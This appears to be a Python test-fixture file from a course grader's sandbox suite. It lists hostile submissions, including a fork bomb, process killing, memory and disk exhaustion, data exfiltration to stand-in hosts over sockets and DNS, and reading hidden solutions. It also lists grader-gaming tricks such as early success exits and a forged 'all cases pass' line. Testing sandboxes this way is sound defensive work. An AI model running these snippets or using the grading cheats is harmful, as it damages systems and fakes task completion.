"""Tricks that end the process or the grader, reach out of the sandbox, or use more than their share."""

from __future__ import annotations

from hostile import at_call, at_import

at_call("exit", "leaves with success", "import sys\nsys.exit(0)", r"import sys")
at_call("exit-at-once", "leaves with success, without a word to Python", "import os\nos._exit(0)", r"import os")
at_call("system-exit", "raises what ends Python with success", "raise SystemExit(0)", r"SystemExit")
at_call("interrupt", "raises what a notebook takes for a stop by hand", "raise KeyboardInterrupt", r"KeyboardInterrupt")
at_import(
    "parent-killed",
    "kills what started it",
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    r"import os",
)
at_import(
    "everything-killed",
    "kills all processes that it may",
    "import os\nos.kill(-1, 9)",
    r"import os",
)
at_import(
    "solutions-read",
    "looks for the course's solutions on the disk",
    "from pathlib import Path\nfor path in Path('/').glob('**/solutions/*/*.py'):\n    print(path.read_text())",
    r"pathlib",
)
at_import(
    "solutions-imported",
    "imports the course's solution",
    "import importlib\nsolved = importlib.import_module('solutions')",
    r"import importlib",
)
at_import(
    "seeds-read",
    "looks for the hidden seeds on the disk",
    "import json\nseeds = json.load(open('../../../seeds.json'))",
    r"import json|`open`",
)
at_import(
    "network",
    "sends what it finds to a server",
    "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=1)",
    r"import socket",
)
at_import(
    "name-service",
    "sends what it finds in a name that it looks up",
    "from socket import gethostbyname\ngethostbyname('seed-1729.example.org')",
    r"socket",
)
at_import(
    "fetched-over-http",
    "fetches a solution",
    "from urllib.request import urlopen\nurlopen('http://192.0.2.1/waves.py')",
    r"urllib",
)
at_import(
    "fork-bomb",
    "starts processes without end",
    "import os\nwhile True:\n    os.fork()",
    r"import os",
)
at_import(
    "daemon",
    "leaves a process behind that the grader does not wait for",
    "import subprocess\nsubprocess.Popen(['sleep', '600'], start_new_session=True)",
    r"import subprocess",
)
at_import(
    "thread",
    "changes the check from another thread",
    "import threading\nthreading.Thread(target=print, daemon=True).start()",
    r"import threading",
)
at_import(
    "files-written",
    "writes outside its folder",
    "open('/tmp/mlf-hostile-was-here', 'w').write('x')",
    r"`open`",
)
at_import(
    "tensor-saved-outside",
    "writes outside its folder by PyTorch",
    "import torch\ntorch.save(torch.zeros(1), '/tmp/mlf-hostile-was-here')",
    r"torch\.save",
)
at_import(
    "array-written-outside",
    "writes outside its folder by NumPy",
    "import numpy as np\nnp.zeros(1).tofile('/tmp/mlf-hostile-was-here')",
    r"tofile",
)
at_import(
    "disk-filled",
    "fills the disk by NumPy",
    "import numpy as np\nnp.memmap('/tmp/mlf-hostile-was-here', mode='w+', shape=(2**40,))",
    r"memmap",
)
at_import(
    "bare-memory",
    "writes where it likes in the process's memory",
    "import ctypes\nctypes.memset(0, 0, 1)",
    r"import ctypes",
)
at_call(
    "memory-filled",
    "takes all memory",
    "kept = []\nwhile True:\n    kept.append(bytearray(2**28))",
    r"MemoryError|memory|did not return|out of|died|time|notebook draws",
    "failed",
    "crashed",
    "timed out",
)
at_call(
    "endless-loop",
    "never returns",
    "while True:\n    pass",
    r"time|return|seconds|s\b",
    "failed",
    "timed out",
    labs=(1, 4),
)
at_import(
    "endless-import",
    "never finishes importing",
    "while True:\n    pass",
    r"cannot be imported \(line \d+\): it never finishes importing",
    "timed out",
    labs=(1,),
)
at_call(
    "endless-output",
    "prints without end",
    "while True:\n    print('x' * 1000)",
    r"time|return|output|printed|notebook draws",
    "failed",
    "timed out",
    "crashed",
    labs=(1,),
)
at_call(
    "endless-recursion",
    "calls itself without end",
    "return _trick()",
    r"[Rr]ecursion|notebook draws",
    "failed",
    "crashed",
)
at_call(
    "verdict-printed",
    "prints the line that a passed check prints",
    "print('✓ exercise: all 40 cases pass (seed 18)')\nreturn 1",
    r"exercise|notebook draws|wrong|differ|raised|return",
    "failed",
    labs=(1, 2, 5),
)
at_call(
    "error-that-names-another-exercise",
    "says that another exercise is not written",
    "raise NotImplementedError('Lab 1, exercise 1.99: not mine')",
    r".",
    "failed",
    "not attempted",
)
